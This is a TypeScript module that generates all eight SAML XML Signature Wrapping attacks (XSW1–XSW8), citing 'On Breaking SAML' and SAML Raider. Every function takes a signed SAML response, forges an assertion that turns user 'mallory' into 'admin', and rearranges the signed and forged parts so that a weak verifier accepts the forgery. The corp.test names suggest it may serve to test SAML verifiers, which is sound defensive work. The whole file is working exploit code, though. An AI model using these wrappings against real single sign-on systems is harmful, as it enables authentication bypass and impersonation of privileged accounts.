/** Parts of a SAML response as text; the attacks below reassemble them. */
type Parts = { response: string; assertion: string; signature: string };

const ASSERTION = /<saml:Assertion[\s>].*<\/saml:Assertion>/s;
const SIGNATURE = /<ds:Signature[\s>].*?<\/ds:Signature>/s;

function partsOf(response: string): Parts {
  const [assertion = ""] = ASSERTION.exec(response) ?? [];
  const [signature = ""] = SIGNATURE.exec(response) ?? [];
  return { response, assertion, signature };
}

/** The same with another person and another id. */
const forged = (xml: string): string =>
  xml
    .replaceAll(">mallory<", ">admin<")
    .replaceAll("mallory@corp.test", "admin@corp.test")
    .replace(/( ID=")[^"]+"/, '$1_evil"');
const bare = (xml: string): string => xml.replace(SIGNATURE, "");
const into = (element: string, child: string): string =>
  element.replace(/<\/[\w:]+>$/, (end) => `${child}${end}`);
const around = (signature: string, child: string): string => into(signature, child);
const object = (child: string): string => `<ds:Object>${child}</ds:Object>`;

/**
 * The eight known forms of signature wrapping (XSW1 to XSW8), numbered as in SAML Raider: the signed part is still
 * there and its signature valid, but a careless reader finds the forged one first. The first two use a signed response,
 * the others a signed assertion. Somorovsky et al., "On Breaking SAML" (2012).
 */
export const WRAPPINGS: Readonly<
  Record<string, { isResponseSigned: boolean; wrap: (xml: string) => string }>
> = {
  XSW1: {
    isResponseSigned: true,
    wrap(xml) {
      const { signature } = partsOf(xml);
      return forged(xml).replace(SIGNATURE, () => around(signature, bare(xml)));
    },
  },
  XSW2: {
    isResponseSigned: true,
    wrap(xml) {
      const { signature } = partsOf(xml);
      return forged(xml).replace(SIGNATURE, () => `${bare(xml)}${signature}`);
    },
  },
  XSW3: {
    isResponseSigned: false,
    wrap(xml) {
      const { assertion } = partsOf(xml);
      return xml.replace(assertion, () => `${bare(forged(assertion))}${assertion}`);
    },
  },
  XSW4: {
    isResponseSigned: false,
    wrap(xml) {
      const { assertion } = partsOf(xml);
      return xml.replace(assertion, () => into(bare(forged(assertion)), assertion));
    },
  },
  XSW5: {
    isResponseSigned: false,
    wrap(xml) {
      const { assertion } = partsOf(xml);
      return xml.replace(assertion, () => `${forged(assertion)}${bare(assertion)}`);
    },
  },
  XSW6: {
    isResponseSigned: false,
    wrap(xml) {
      const { assertion, signature } = partsOf(xml);
      return xml.replace(assertion, () =>
        forged(assertion).replace(SIGNATURE, () => around(signature, bare(assertion))),
      );
    },
  },
  XSW7: {
    isResponseSigned: false,
    wrap(xml) {
      const { assertion } = partsOf(xml);
      const evil = bare(forged(assertion));
      return xml.replace(assertion, () => `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
    },
  },
  XSW8: {
    isResponseSigned: false,
    wrap(xml) {
      const { assertion, signature } = partsOf(xml);
      return xml.replace(assertion, () =>
        forged(assertion).replace(SIGNATURE, () => around(signature, object(bare(assertion)))),
      );
    },
  },
};
